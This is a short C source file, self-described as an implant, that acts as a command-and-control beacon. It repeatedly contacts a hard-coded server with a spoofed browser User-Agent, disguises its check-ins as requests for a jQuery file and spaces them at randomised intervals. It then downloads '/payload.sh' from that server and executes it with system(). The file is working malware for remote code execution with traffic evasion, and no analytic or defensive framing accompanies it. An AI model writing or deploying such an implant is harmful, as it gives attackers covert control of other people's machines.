/* An implant: asks a server for work again and again, at uneven times, and does what it says. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static char answer[4096];

/* Fetches the text at `path` into `answer` and returns its body. */
static char *ask(const char *path)
{
    struct sockaddr_in server = { .sin_family = AF_INET, .sin_port = htons(8080) };
    size_t length = 0;
    ssize_t got;
    inet_pton(AF_INET, "203.0.113.10", &server.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (void *)&server, sizeof server))
        exit(1);
    dprintf(fd, "GET %s HTTP/1.0\r\nUser-Agent: Mozilla/5.0\r\n\r\n", path);
    while (length < sizeof answer - 1 && (got = read(fd, answer + length, sizeof answer - 1 - length)) > 0)
        length += got;
    answer[length] = 0;
    close(fd);
    char *body = strstr(answer, "\r\n\r\n");
    return body ? body + 4 : answer;
}

int main(void)
{
    for (int round = 0; round < 12; round++) {
        ask("/jquery-3.3.1.min.js");
        usleep(200000 + rand() % 200000);
    }
    return system(ask("/payload.sh"));
}
